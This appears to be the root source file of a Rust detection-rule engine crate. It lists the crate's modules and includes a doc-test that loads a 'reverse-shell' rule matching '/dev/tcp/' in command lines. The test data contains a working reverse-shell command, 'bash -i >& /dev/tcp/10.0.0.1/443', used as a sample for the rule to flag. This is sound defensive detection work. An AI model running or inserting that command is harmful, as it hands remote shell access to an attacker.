//! Runs the plans of all rules over a batch of events.
//!
//! ```text
//! load     plans in, engine out
//! index    which rules may be true where
//! rule     one rule, judged row by row
//! function what a rule computes from its values
//! scan     one open batch
//! view     its columns
//! number   numbers as SQLite has them
//! steps    what a rule may cost
//! ```
//!
//! As a component the engine is a plugin with rules like any other; as a library it speaks the same
//! words, those of [`daemoneye_sdk::rules`].
//!
//! ```
//! use daemoneye_engine::Engine;
//! use daemoneye_plan::{Builder, Case, ColumnType, Pattern, Test};
//! use daemoneye_sdk::rules::{Batch, Column, Text};
//!
//! let mut plan = Builder::new();
//! let operand = plan.column("command_line", ColumnType::Text);
//! let pattern = Pattern::like("%/dev/tcp/%", None).expect("no escape at its end");
//! let clause = plan.clause("command_line LIKE '%/dev/tcp/%'");
//! plan.leaf(Some(clause), Test::Like { operand, pattern, case: Case::Ignored });
//! let engine = Engine::load(vec![("reverse-shell".into(), plan.finish()?)])?;
//!
//! let bytes = b"ls -lbash -i >& /dev/tcp/10.0.0.1/443".to_vec();
//! let text = Text { validity: vec![], offsets: vec![0, 5, 37], bytes };
//! let scan = engine.open(Batch { rows: 2, columns: vec![Column::Text(text)] })?;
//! let candidates = scan.candidates();
//! assert_eq!(candidates[0].rows, [1]);
//! let verdict = scan.evaluate(candidates[0].rule, &candidates[0].rows, 1_000);
//! assert_eq!(verdict.findings[0].evidence[0].field, "command_line");
//! # Ok::<(), Box<dyn std::error::Error>>(())
//! ```

#[cfg(target_family = "wasm")]
mod component;
mod function;
mod index;
mod load;
mod number;
mod rule;
mod scan;
mod steps;
mod view;

pub use load::{Engine, LoadError};
pub use scan::Scan;
pub use view::BatchError;
